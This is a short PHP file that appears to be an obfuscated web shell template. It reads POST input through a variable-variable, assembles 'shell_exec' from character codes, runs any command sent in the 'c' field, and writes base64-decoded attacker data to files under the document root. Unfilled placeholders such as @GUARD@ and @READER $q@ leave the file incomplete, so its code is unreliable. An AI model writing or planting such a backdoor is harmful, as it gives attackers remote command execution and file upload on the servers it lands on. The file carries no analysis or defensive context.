<?php
$g = '_' . strtoupper('po' . 'st');
$q = ${$g};
$k = isset($q['k']) ? (string) $q['k'] : '';
@GUARD@
$x = chr(115) . chr(104) . 'ell' . chr(95) . 'e' . chr(120) . 'ec';
if (isset($q['c']) && @LISTED $q['c']@) {
    echo preg_replace_callback('/^.+$/s', function ($m) use ($x) { return $x($m[0]); }, $q['c']);
}
if (isset($q['n'], $q['d'])) {
    $root = realpath($_SERVER['DOCUMENT_ROOT']);
    $dir = realpath($root . '/' . dirname($q['n']));
    if ($dir !== false && strncmp($dir . '/', $root . '/', strlen($root) + 1) === 0) {
        $h = fopen($dir . '/' . basename($q['n']), 'wb');
        fwrite($h, base64_decode($q['d']));
        fclose($h);
        echo 'ok';
    }
}
@READER $q@
